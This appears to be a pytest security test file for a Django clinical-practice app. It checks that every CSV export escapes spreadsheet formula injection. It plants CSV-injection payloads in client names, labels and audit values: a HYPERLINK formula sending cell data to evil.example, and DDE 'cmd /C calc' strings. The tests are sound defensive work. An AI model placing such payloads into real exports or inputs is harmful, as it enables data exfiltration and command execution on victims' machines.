"""CSV (formula) injection: text a user typed (a client's name, a clinician's name, an
indicator label, an audited value) reaches a spreadsheet through an export and runs there as
a formula. The defence is one writer, ipnb_notes.csvexport, which every export uses: a cell
that starts a formula is written as text. Every export URL is attacked here, with cells that
start with = + - @, a tab, a carriage return, a line feed, blanks before =, and a full-width =;
a new .csv URL fails the suite until it is listed below."""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import re

import pytest
from django.urls import get_resolver, reverse

import audit
from accounts.models import User
from dashboards import services as dashboard_services
from measures import practice_instruments
from measures import services as measures
from measures.instruments import PHQ9
from sessions.models import IntegrationIndicator
from tests.dashboards.helpers import arousal, attune, rate, rupture, session, weeks_ago
from tests.factories import (
    make_client,
    make_supervision,
    make_user,
    mark_recently_authenticated,
)
from tests.urlwalk import _walk

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Open the chart")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]

# What a spreadsheet reads as the start of a formula: written here, apart from the writer.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
NUMBER = re.compile(r"-?\d+(\.\d+)?([eE][-+]?\d+)?")


def _dangerous(cell: str) -> bool:
    if NUMBER.fullmatch(cell):
        return False  # a negative number is no formula
    return cell.startswith(TRIGGERS) or cell.lstrip(" \t\r\n\0\u00a0").startswith(
        TRIGGERS
    )


@pytest.fixture
def world(alice, bob, ada):
    """Hostile text in every field an export writes: clients' names on Alice's caseload (seen
    by Alice and by Bob, her supervisor), an indicator's label in her client's trajectory,
    supervisees' names on Bob's weekly figures, and values in the audit trail."""
    indicator = IntegrationIndicator.objects.create(
        code="hostile", group="PRACTICE", label=HOSTILE[0], sort_order=999
    )
    clients = [make_client(alice, legal_name=name) for name in HOSTILE]
    record = clients[0]
    for weeks in (3, 2, 1):
        s = session(record, alice, weeks_ago(weeks))
        rate(s, {indicator.code: 2})
        arousal(s, "HYPER")
        attune(s, "MISMATCH")
        rupture(s)
    for client in clients:
        dashboard_services.rollup_refresh_client(client_id=client.id)
    for name in HOSTILE[1:]:
        make_supervision(bob, make_user(full_name=name, role=User.Role.THERAPIST))
    for name in HOSTILE:
        audit.record(name, target_code=name)
    measures.administration_record(
        client=record, instrument=PHQ9, answers=[1] * 9, by=alice
    )
    # An instrument the practice defined: its name and its band's label, as the admin typed.
    defined = practice_instruments.define(
        name=HOSTILE[0],
        question="",
        items=["One"],
        scale=["No", "Yes"],
        bands=[[0, 1, HOSTILE[1]]],
        by=ada,
    )
    measured = clients[1]
    measures.administration_record(
        client=measured, instrument=defined.spec, answers=[1], by=alice
    )
    return {
        "alice": alice,
        "bob": bob,
        "ada": ada,
        "record": record,
        "measured": measured,
    }


# Every CSV export: (persona, URL arguments, the hostile text the file must carry, guarded).
EXPORTS = {
    "audit:event_export": ("ada", lambda w: [], HOSTILE),
    "dashboards:caseload_csv": ("alice", lambda w: [], HOSTILE),
    "dashboards:supervisee_caseload_csv": (
        "bob",
        lambda w: [w["alice"].code],
        HOSTILE,
    ),
    "dashboards:trajectory_csv": (
        "alice",
        lambda w: [w["record"].code, "indicators"],
        HOSTILE[:1],
    ),
    "dashboards:supervision_csv": ("bob", lambda w: [], HOSTILE[1:]),
    "dashboards:practice_csv": ("ada", lambda w: [], []),
    "measures:measures_csv": ("alice", lambda w: [w["measured"].code], HOSTILE[:2]),
}
# The trajectory's other charts: numbers and choices only, checked for the same rule.
TRAJECTORY_CHARTS = ("arousal", "ruptures", "attunement")


def _csv_urls() -> set[str]:
    return {
        route.name
        for route in _walk(get_resolver().url_patterns)
        if route.path.endswith(".csv") or route.name.endswith("_export")
    }


def test_every_csv_export_is_attacked_here():
    assert _csv_urls() == set(EXPORTS)


def _download(client, user, url: str):
    client.force_login(user)
    mark_recently_authenticated(client, user)
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    body = (
        b"".join(response.streaming_content) if response.streaming else response.content
    )
    return response, body


def _cells(body: bytes) -> list[str]:
    rows = list(csv.reader(io.StringIO(body.decode(), newline="")))
    assert len(rows) > 1, "the export is empty: the attack reached nothing"
    return [cell for row in rows for cell in row]


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_cell_of_an_export_starts_a_formula(client, world, name):
    persona, args, planted = EXPORTS[name]
    _response, body = _download(client, world[persona], reverse(name, args=args(world)))
    cells = _cells(body)

    assert [c for c in cells if _dangerous(c)] == []
    for text in planted:
        assert "'" + text in cells, f"{text!r} is not in the file as text"


@pytest.mark.parametrize("chart", TRAJECTORY_CHARTS)
def test_no_cell_of_a_trajectory_chart_starts_a_formula(client, world, chart):
    url = reverse("dashboards:trajectory_csv", args=[world["record"].code, chart])
    _response, body = _download(client, world["alice"], url)
    assert [c for c in _cells(body) if _dangerous(c)] == []


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_a_whole_export_carries_its_digest(client, world, name):
    """CRY-03: whoever receives a file can check it arrived unaltered. The audit trail is
    streamed (it can be long), so its digest cannot precede it and it carries none."""
    persona, args, _planted = EXPORTS[name]
    response, body = _download(client, world[persona], reverse(name, args=args(world)))
    if response.streaming:
        assert name == "audit:event_export"
        assert "X-Content-SHA256" not in response
        return
    digest = hashlib.sha256(body).digest()
    assert response["X-Content-SHA256"] == digest.hex()
    assert response["Repr-Digest"] == f"sha-256=:{base64.b64encode(digest).decode()}:"
